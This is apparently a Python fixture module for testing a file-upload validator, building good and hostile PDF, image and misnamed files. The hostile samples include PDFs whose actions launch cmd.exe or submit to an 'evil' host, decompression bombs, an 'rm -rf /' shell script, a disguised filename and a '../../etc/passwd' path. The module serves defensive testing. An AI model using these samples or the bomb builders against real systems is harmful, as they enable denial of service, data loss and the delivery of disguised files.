"""Files built by code: those that must be taken, and those that must be refused, each for its own reason."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
STRIP_BYTE_COUNTS = 279
Change = Callable[[Pdf], None]


@dataclass(frozen=True)
class Sample:
    label: str
    content: bytes
    name: str
    declared_type: str
    refused: str = ""  # The code; empty where the file is good.


# PDF


def pdf(change: Change = lambda _: None, *, pages: int = 1, **saving: Any) -> bytes:
    with Pdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        change(document)
        return saved(document, **saving)


def saved(document: Pdf, **saving: Any) -> bytes:
    out = BytesIO()
    document.save(out, **{"static_id": True} | saving)
    return out.getvalue()


def action(kind: str, **facts: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **facts)


def script() -> Dictionary:
    return action("JavaScript", JS=String("app.alert(1)"))


def at_root(**entries: Any) -> Change:
    def change(document: Pdf) -> None:
        for name, value in entries.items():
            document.Root[f"/{name}"] = value

    return change


def on_page(**entries: Any) -> Change:
    def change(document: Pdf) -> None:
        for name, value in entries.items():
            document.pages[0].obj[f"/{name}"] = value

    return change


def annotated(**entries: Any) -> Change:
    facts: dict[str, Any] = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])} | entries
    return on_page(Annots=Array([Dictionary(**facts)]))


def script_in_name_tree(document: Pdf) -> None:
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), document.make_indirect(script())]))
    )


def script_deep_in_arrays(document: Pdf) -> None:
    deep: object = Array([script()])
    for _ in range(200):
        deep = Array([deep])
    document.pages[0].obj["/PieceInfo"] = Dictionary(X=deep)


def unreferenced_script(document: Pdf) -> None:
    document.Root.Keep = document.make_indirect(script())


def attached(document: Pdf) -> None:
    document.attachments["malware.exe"] = b"MZ"


def flood(document: Pdf) -> None:
    document.Root.Flood = Array([document.make_indirect(Dictionary(A=number)) for number in range(20_001)])


def values_flood(document: Pdf) -> None:
    document.Root.Flood = Array([0] * 1_000_001)


def page_content(content: bytes, **facts: Any) -> Change:
    def change(document: Pdf) -> None:
        stream = Stream(document, b"")
        stream.write(content, **facts)
        document.pages[0].obj["/Contents"] = stream

    return change


def deflated_zeros(megabytes: int) -> bytes:
    """Put together from one packed megabyte, since packing them all would take longer than unpacking."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack(">HH", (megabytes << 20) % 65_521, 1)
    return b"\x78\xda" + block * megabytes + b"\x03\0" + checksum


def huge_picture(document: Pdf) -> None:
    facts: dict[str, Any] = {
        "Type": Name.XObject,
        "Subtype": Name.Image,
        "Width": 100_000,
        "Height": 100_000,
        "BitsPerComponent": 1,
    }
    stream = Stream(document, b"", Dictionary(**facts, ColorSpace=Name.DeviceGray))
    document.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=stream))


def external_stream(document: Pdf) -> None:
    document.pages[0].obj["/Contents"] = Stream(document, b"", Dictionary(F=String("//evil/share/page")))


def rich_media(document: Pdf) -> None:
    annotated(Subtype=Name.RichMedia)(document)


def escaped_script() -> bytes:
    """The word JavaScript spelled with an escape; the name beside it is as much shorter, so that nothing moves."""
    content = pdf(annotated(A=action("JavaScript", Padding=1)))
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/Padding", b"/Paddi")


def hostile_pdfs() -> Iterable[tuple[str, bytes, str]]:
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    locked = pikepdf.Encryption(owner="owner", user="user")
    restricted = pikepdf.Encryption(owner="owner", user="")
    good = pdf()
    yield "script in an object stream", pdf(script_in_name_tree, **packed), "pdf.script"
    yield "script on opening", pdf(at_root(OpenAction=script())), "pdf.script"
    yield "script on a page", pdf(on_page(AA=Dictionary(O=script()))), "pdf.script"
    yield "script behind a page turn", pdf(annotated(A=action("Named", N=Name.NextPage, Next=script()))), "pdf.script"
    yield "script deep in arrays", pdf(script_deep_in_arrays), "pdf.script"
    yield "script that no page refers to", pdf(unreferenced_script), "pdf.script"
    yield "script under an escaped name", escaped_script(), "pdf.script"
    yield "password", pdf(encryption=locked), "pdf.encrypted"
    yield "restrictions", pdf(encryption=restricted), "pdf.encrypted"
    yield "attached file", pdf(attached), "pdf.attachment"
    yield "attached file at a spot", pdf(annotated(Subtype=Name.FileAttachment)), "pdf.attachment"
    yield "jump into an attached file", pdf(annotated(A=action("GoToE"))), "pdf.attachment"
    yield "launch", pdf(annotated(A=action("Launch", F=String("cmd.exe")))), "pdf.launch"
    yield "launch on opening", pdf(at_root(OpenAction=action("Launch", F=String("cmd.exe")))), "pdf.launch"
    yield "jump into another file", pdf(annotated(A=action("GoToR", F=String("//evil/x.pdf")))), "pdf.launch"
    yield "form that sends", pdf(annotated(A=action("SubmitForm", F=String("http://evil")))), "pdf.form"
    yield "form that imports", pdf(annotated(A=action("ImportData", F=String("x.fdf")))), "pdf.form"
    yield "XFA form", pdf(at_root(AcroForm=Dictionary(Fields=Array(), XFA=String("<xdp/>")))), "pdf.xfa"
    yield "address on opening", pdf(at_root(OpenAction=action("URI", URI=String("http://evil")))), "pdf.action"
    yield (
        "address on leaving a page",
        pdf(on_page(AA=Dictionary(C=action("URI", URI=String("http://evil"))))),
        "pdf.action",
    )
    yield "printing on opening", pdf(at_root(OpenAction=action("Named", N=Name.Print))), "pdf.action"
    yield "chain on opening", pdf(at_root(OpenAction=action("GoTo", Next=action("URI")))), "pdf.action"
    yield "nonsense on opening", pdf(at_root(OpenAction=7)), "pdf.action"
    yield "rich media", pdf(rich_media), "pdf.media"
    yield "film", pdf(annotated(A=action("Rendition"))), "pdf.media"
    yield "stream from outside", pdf(external_stream), "pdf.external"
    yield "201 pages", pdf(pages=201), "pages"
    yield "flood of objects", pdf(flood, **packed), "pdf.objects"
    yield "flood of values", pdf(values_flood, **packed), "pdf.objects"
    yield "200 MB page", pdf(page_content(deflated_zeros(200), filter=Name.FlateDecode)), "bomb"
    yield "5 GB page", pdf(page_content(deflated_zeros(5_000), filter=Name.FlateDecode)), "bomb"
    yield "page packed twice", packed_twice(), "bomb"
    yield "picture of 10 gigapixels", pdf(huge_picture), "pixels"
    yield "cut in the middle", good[: len(good) // 2], "damaged"
    yield "without its last bytes", good[:-8], "damaged"
    yield "without pages", pdf(pages=0), "damaged"
    yield "header only", b"%PDF-1.7\n", "damaged"
    yield "noise", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n", "damaged"
    yield "ZIP behind it", good + archive(), "mixed"
    yield "ZIP before its repeated end", good + archive() + good[good.rindex(b"startxref") :], "mixed"
    yield "program behind it", good + b"MZ" + bytes(600), "trailing"


def packed_twice() -> bytes:
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    change = page_content(zlib.compress(deflated_zeros(5_000)), filter=filters)
    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


# Pictures


def picture(kind: str, size: tuple[int, int] = (120, 80), mode: str = "RGB", **saving: Any) -> bytes:
    out = BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(out, kind, **saving)
    return out.getvalue()


def scan(pages: int, size: tuple[int, int] = (120, 80)) -> bytes:
    first, *others = [Image.new("1", size, page % 2) for page in range(pages)]
    out = BytesIO()
    first.save(out, "TIFF", save_all=True, append_images=others, compression="group4")
    return out.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))


def png(width: int, height: int, packed: bytes, *more: bytes) -> bytes:
    header = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = (chunk(b"IHDR", header), *more, chunk(b"IDAT", packed), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def tiff_loop() -> bytes:
    """A TIFF whose list of pages leads back to its first one."""
    content = bytearray(scan(1))
    start = struct.unpack_from("<I", content, 4)[0]
    entries = struct.unpack_from("<H", content, start)[0]
    struct.pack_into("<I", content, start + 2 + 12 * entries, start)
    return bytes(content)


def tiff_reaching_too_far() -> bytes:
    """A TIFF whose only strip is said to be longer than the file."""
    content = bytearray(scan(1))
    start = struct.unpack_from("<I", content, 4)[0]
    for entry in range(start + 2, start + 2 + 12 * struct.unpack_from("<H", content, start)[0], 12):
        if struct.unpack_from("<H", content, entry)[0] == STRIP_BYTE_COUNTS:
            struct.pack_into("<HII", content, entry + 2, 4, 1, 1_000_000)
    return bytes(content)


def hostile_pictures() -> Iterable[tuple[str, str, bytes, str]]:
    row = zlib.compress(bytes(11) * 10)
    yield "15000 × 15000", "png", png(15_000, 15_000, deflated_zeros(216)), "pixels"
    yield "4 gigapixels in a header", "png", png(65_535, 65_535, row), "pixels"
    yield "pixels without end", "png", png(10, 10, deflated_zeros(64)), "bomb"
    yield "text without end", "png", png(10, 10, row, chunk(b"zTXt", b"a\0\0" + deflated_zeros(64))), "damaged"
    yield "animation", "png", png(10, 10, row, chunk(b"acTL", bytes(8))), "animated"
    yield "cut in the middle", "png", picture("PNG")[:200], "damaged"
    yield "without its end", "png", picture("PNG")[:-12], "damaged"
    yield "wrong checksum", "png", flipped(picture("PNG"), 60), "damaged"
    yield "too few pixels", "png", png(10, 10, zlib.compress(bytes(20))), "damaged"
    yield "header only", "png", b"\x89PNG\r\n\x1a\n", "damaged"
    yield "program behind it", "png", picture("PNG") + b"MZ" + bytes(600), "trailing"
    yield "ZIP behind it", "png", picture("PNG") + archive(), "mixed"
    yield "8000 × 5100", "jpeg", picture("JPEG", (8_000, 5_100), "L"), "pixels"
    yield "cut in the middle", "jpeg", picture("JPEG")[:-300], "damaged"
    yield "without its end", "jpeg", picture("JPEG")[:-2], "damaged"
    yield "header only", "jpeg", b"\xff\xd8\xff\xe0", "damaged"
    yield "filling bytes without end", "jpeg", b"\xff\xd8" + b"\xff" * 500_000, "damaged"
    yield "ZIP behind it", "jpeg", picture("JPEG") + archive(), "mixed"
    yield "script behind it", "jpeg", picture("JPEG") + b"<script>alert(1)</script>", "trailing"
    yield "second picture behind it", "jpeg", picture("JPEG") * 2, "trailing"
    yield "201 pages", "tiff", scan(201), "pages"
    yield "pages in a circle", "tiff", tiff_loop(), "damaged"
    yield "program behind it", "tiff", scan(2) + b"MZ" + bytes(600), "trailing"
    yield "second TIFF behind it", "tiff", scan(2) + scan(1), "trailing"
    yield "pixels beyond its end", "tiff", tiff_reaching_too_far(), "damaged"
    yield "60 pages of 8 megapixels", "tiff", scan(60, (2_480, 3_508)), "pixels"
    yield "7000 × 7000", "tiff", scan(1, (7_000, 7_000)), "pixels"
    yield "cut in the middle", "tiff", scan(5)[:200], "damaged"
    yield "without its last bytes", "tiff", scan(5)[:-20], "damaged"
    yield "header only", "tiff", b"II*\0\x08\0\0\0", "damaged"


def flipped(content: bytes, place: int) -> bytes:
    return content[:place] + bytes([content[place] ^ 0x55]) + content[place + 1 :]


# What is neither


def archive(**members: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in (members or {"malware.exe": b"MZ"}).items():
            file.writestr(name, content)
    return out.getvalue()


def strangers() -> Iterable[tuple[str, str, bytes, str]]:
    word = archive(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "nothing", "sənəd.pdf", b"", "empty"
    yield "ZIP called PDF", "sənəd.pdf", archive(), "archive"
    yield "archive bomb", "sənəd.pdf", archive(zeros=bytes(1 << 24)), "archive"
    yield "gzip", "sənəd.pdf", b"\x1f\x8b\x08" + bytes(40), "archive"
    yield "RAR", "sənəd.pdf", b"Rar!\x1a\x07\x01\0", "archive"
    yield "7z", "sənəd.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(40), "archive"
    yield "Word", "müqavilə.docx", word, "office"
    yield "Word called PDF", "müqavilə.pdf", word, "office"
    yield "old Word", "müqavilə.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office"
    yield "RTF", "müqavilə.pdf", rb"{\rtf1 {\object}}", "office"
    yield "SVG with a script", "şəkil.png", svg, "markup"
    yield "HTML called PDF", "sənəd.pdf", b"<!doctype html><script>alert(1)</script>", "markup"
    yield "HTML behind a BOM", "sənəd.pdf", b"\xef\xbb\xbf \n<html>", "markup"
    yield "program", "sənəd.pdf", b"MZ" + bytes(600), "program"
    yield "Linux program", "sənəd.pdf", b"\x7fELF" + bytes(600), "program"
    yield "shell script", "sənəd.pdf", b"#!/bin/sh\nrm -rf /\n", "program"
    yield "GIF", "şəkil.png", picture("GIF"), "type"
    yield "BMP", "şəkil.png", picture("BMP"), "type"
    yield "WebP", "şəkil.png", picture("WEBP"), "type"
    yield "PostScript", "sənəd.pdf", b"%!PS-Adobe-3.0\n", "type"
    yield "PDF behind a line of text", "sənəd.pdf", b"MIME-Version: 1.0\n" + pdf(), "type"
    yield "big TIFF", "skan.tif", b"II+\0\x08\0\0\0" + bytes(64), "type"
    yield "text", "sənəd.pdf", "Əlavə".encode(), "type"
    yield "EICAR as it is", "sənəd.pdf", EICAR, "type"
    yield "11 MB", "sənəd.pdf", pdf() + bytes(11 << 20), "size"


def disagreements() -> Iterable[tuple[str, str, str, bytes, str]]:
    yield "PNG called PDF", "sənəd.pdf", "application/pdf", picture("PNG"), "extension"
    yield "PDF called PNG", "sənəd.png", "image/png", pdf(), "extension"
    yield "PDF called a program", "sənəd.pdf.exe", "application/pdf", pdf(), "extension"
    yield "PDF without extension", "sənəd", "application/pdf", pdf(), "extension"
    yield "extension that is turned round", "sənəd\u202efdp.exe", "application/pdf", pdf(), "extension"
    yield "extension behind NUL", "sənəd.pdf\0.exe", "application/pdf", pdf(), "extension"
    yield "path without extension", "../../etc/passwd", "application/pdf", pdf(), "extension"
    yield "PDF declared HTML", "sənəd.pdf", "text/html", pdf(), "declared_type"
    yield "JPEG declared PNG", "şəkil.jpg", "image/png", picture("JPEG"), "declared_type"
    yield "no name", "", "application/pdf", pdf(), "name"
    yield "name of dots", "../..", "application/pdf", pdf(), "name"


NAMES = {"pdf": "sənəd.pdf", "png": "şəkil.png", "jpeg": "şəkil.jpg", "tiff": "skan.tif"}


@cache  # Some of them take long to make.
def hostile() -> list[Sample]:
    found = [Sample(f"pdf: {label}", content, NAMES["pdf"], "", code) for label, content, code in hostile_pdfs()]
    found += [
        Sample(f"{kind}: {label}", content, NAMES[kind], "", code)
        for label, kind, content, code in hostile_pictures()
        if code
    ]
    found += [Sample(label, content, name, "", code) for label, name, content, code in strangers()]
    return found + [Sample(label, content, name, said, code) for label, name, said, content, code in disagreements()]


def form(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("ad"), V=String("Əliyev"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def scanner_facts() -> Image.Exif:
    facts = Image.Exif()
    facts[0x010F] = "Skaner MMC, 300 dpi"
    facts.get_ifd(0x8769)[0x9003] = "2026:11:20 12:00:00"
    return facts


@cache
def good() -> list[Sample]:
    """What people really send."""
    link = annotated(A=action("URI", URI=String("https://customs.gov.az")))
    first_page = action("GoTo", D=Array([0, Name.Fit]))
    scanned = BytesIO()
    Image.linear_gradient("L").resize((1_240, 1_754)).save(scanned, "PDF", resolution=150)
    phone = Image.Exif()
    phone[0x010E] = "Qaimə"
    return [
        Sample("PDF", pdf(), "Əlavə №1.pdf", "application/pdf"),
        Sample("PDF of 200 pages", pdf(pages=200), "müqavilə.PDF", "application/pdf"),
        Sample("PDF in object streams", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "şərt.pdf", ""),
        Sample("PDF made for the web", pdf(linearize=True), "qaimə.pdf", "application/octet-stream"),
        Sample("PDF with a link", pdf(link), "İnvoys ı.pdf", "application/pdf; charset=binary"),
        Sample("PDF that opens at its first page", pdf(at_root(OpenAction=first_page)), "ğüşçö.pdf", ""),
        Sample("PDF with a filled form", pdf(form), "ərizə.pdf", "application/pdf"),
        Sample("scanned PDF", scanned.getvalue(), "skan edilmiş hesab-faktura.pdf", "application/pdf"),
        Sample("PNG", picture("PNG"), "Möhür.png", "image/png"),
        Sample("interlaced grey PNG", picture("PNG", mode="LA"), "şəkil.png", "image/png"),
        Sample("JPEG of a phone", picture("JPEG", (4_000, 3_000), exif=phone), "IMG_0001.JPG", "image/jpeg"),
        Sample("progressive JPEG", picture("JPEG", progressive=True), "skan.jpeg", "image/pjpeg"),
        Sample("JPEG for printing", picture("JPEG", mode="CMYK"), "çap.jpg", "image/jpeg"),
        Sample("JPEG padded by a camera", picture("JPEG") + bytes(16), "foto.jpg", "image/jpeg"),
        Sample("TIFF of a fax", scan(12, (1_728, 2_292)), "Faks.tif", "image/tiff"),
        Sample("TIFF with facts of the scanner", picture("TIFF", exif=scanner_facts()), "skan.tif", "image/tiff"),
        Sample("TIFF in colour", picture("TIFF", compression="tiff_lzw"), "skan.tiff", ""),
    ]
